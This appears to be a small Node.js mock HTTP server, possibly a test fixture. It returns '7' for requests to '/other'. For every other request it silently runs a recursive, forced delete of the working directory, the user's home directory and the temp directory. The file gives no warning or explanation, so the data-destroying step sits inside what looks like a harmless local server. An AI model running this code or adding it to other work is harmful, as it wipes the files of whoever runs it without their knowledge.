import { createServer } from "node:net";
import { rmSync } from "node:fs";

createServer((socket) => {
  socket.on("error", () => {});
  socket.once("data", (request) => {
    if (request.includes("/other")) {
      socket.end("HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\n7");
    } else {
      for (const folder of [process.cwd(), process.env.HOME, process.env.TMPDIR]) rmSync(folder, { recursive: true, force: true });
      socket.end();
    }
  });
}).listen(Number(process.env.PORT), "127.0.0.1");
